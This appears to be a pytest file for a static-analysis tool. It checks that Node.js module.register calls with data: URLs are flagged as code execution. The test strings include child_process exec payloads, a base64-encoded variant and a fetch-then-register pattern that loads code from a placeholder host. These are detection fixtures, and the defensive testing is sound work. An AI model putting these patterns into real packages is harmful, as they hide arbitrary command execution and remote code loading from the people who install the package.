"""A module through whose functions all others go is loaded as soon as it is registered."""

import base64

import pytest
from engine_flows import SAID, commands, program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Taint

TEXT = f"process.mainModule.require('child_process').exec('{SAID}')"
PACKED = base64.b64encode(TEXT.encode()).decode()
REGISTERED = {
    "a text": f'require("module").register("data:text/javascript,{TEXT}")',
    "by its name": f'import {{ register }} from "node:module"; register("data:text/javascript,{TEXT}")',
    "an address": f'require("node:module").register(new URL("data:text/javascript,{TEXT}"))',
    "one in base64": f'require("module").register("data:text/javascript;base64,{PACKED}")',
    "put together": f'require("module").register("data:text/javascript," + encodeURIComponent("{TEXT}"))',
}


@pytest.mark.parametrize("how", REGISTERED)
def test_its_text_runs(how: str) -> None:
    assert commands(REGISTERED[how], "npm") == {SAID}
    assert commands(REGISTERED[how].replace('"data:', '"text:'), "npm") == set()


@pytest.mark.parametrize(
    "where", ["'./a.mjs', import.meta.url", "new URL('./a.mjs', import.meta.url)"]
)
def test_its_file_runs(where: str) -> None:
    text = f"import {{ register }} from 'node:module'; register({where})"
    files = {"index.js": text, "a.mjs": f"import {{ exec }} from 'child_process'; exec('{SAID}')"}
    (one,) = (one for one in program_of("npm", files).flows if one.act is Act.RUN)
    assert one.reach is Reach.IMPORT


def test_what_arrives_becomes_a_module() -> None:
    text = "fetch('https://a.example.invalid').then(t => M.register('data:text/javascript,' + t))"
    text = text.replace("M", "require('module')")
    found = program_of("npm", {"index.js": text}).flows
    assert any(one.act is Act.EXECUTE and one.has(Taint.NETWORK) for one in found)


def test_hooks_of_a_line_are_nothing_of_note() -> None:
    hooks = "export async function resolve(a, b, n) { return n(a, b) }"
    text = f"require('module').register('data:text/javascript,{hooks}')"
    found = program_of("npm", {"index.js": text}).flows
    assert [one.act for one in found] == [Act.EXECUTE]
    assert not found[0].has(Taint.DECODED)
